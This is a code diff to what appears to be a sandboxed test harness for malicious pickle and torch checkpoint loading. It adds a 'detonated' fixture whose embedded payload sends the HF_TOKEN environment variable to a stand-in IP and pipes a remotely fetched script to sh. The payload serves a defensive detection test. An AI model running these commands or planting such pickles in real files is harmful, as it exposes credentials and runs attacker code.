@@ -18,7 +18,7 @@ from typing import Any
 import torch
 
 from bench.fuzz import frames
-from bench.fuzz.conversation import LOAD, RETURNED, SALVAGE, Conversation, evaluate
+from bench.fuzz.conversation import DETONATED, LOAD, RETURNED, SALVAGE, Conversation, evaluate
 from bench.fuzz.corpus import FOLDER
 from bench.fuzz.targets import packed
 from sandbox import controller
@@ -59,6 +59,16 @@ except OSError:
     pass
 """
 
+_DETONATION = """
+import os, socket
+peer = socket.create_connection(("203.0.113.7", 80), 1)
+body = os.environ["HF_TOKEN"].encode()[:40]
+peer.sendall(b"POST /up HTTP/1.1\\r\\nHost: evil\\r\\nContent-Length: 40\\r\\n\\r\\n" + body)
+peer.recv(100)
+open("/tmp/stage2", "w").write("#!/bin/sh\\n")
+os.system("curl -s http://203.0.113.9/x | sh")
+"""
+
 
 def _saved(value: object, **options: Any) -> bytes:
     raw = io.BytesIO()
@@ -78,6 +88,10 @@ _CHECKPOINTS: dict[str, tuple[Callable[[], bytes], int]] = {
     "legacy": (lambda: _saved(_weights(), _use_new_zipfile_serialization=False), LOAD),
     "pickle": (lambda: pickle.dumps({"w": [1.5, 2], "name": "\u202eevil"}, protocol=4), LOAD),
     "malicious": (lambda: pickle.dumps({"hook": _Calls(exec, _ATTACK, {})}, protocol=4), LOAD | SALVAGE),
+    "detonated": (
+        lambda: pickle.dumps({"hook": _Calls(exec, _DETONATION, {})}, protocol=4),
+        LOAD | SALVAGE | DETONATED,
+    ),
     "returned": (
         lambda: _saved({"w": torch.ones(2), "made": _Calls(torch.full, (3,), 7.0)}),
         LOAD | RETURNED | SALVAGE,
@@ -131,7 +145,7 @@ def _recorded(raw: bytes, flags: int, folder: Path) -> Conversation:
     path.write_bytes(raw)
     path.chmod(0o644)
     request = Request(path, write=False, static=not flags & LOAD, allow_returned=bool(flags & RETURNED))
-    policy, bundle = load("evaluate", find().configs), find()
+    policy, bundle = load("detonate" if flags & DETONATED else "evaluate", find().configs), find()
     jail: Jail
     jail, ready = family.choose(_JAIL, None, lambda _line: None)
     with ExitStack() as held:
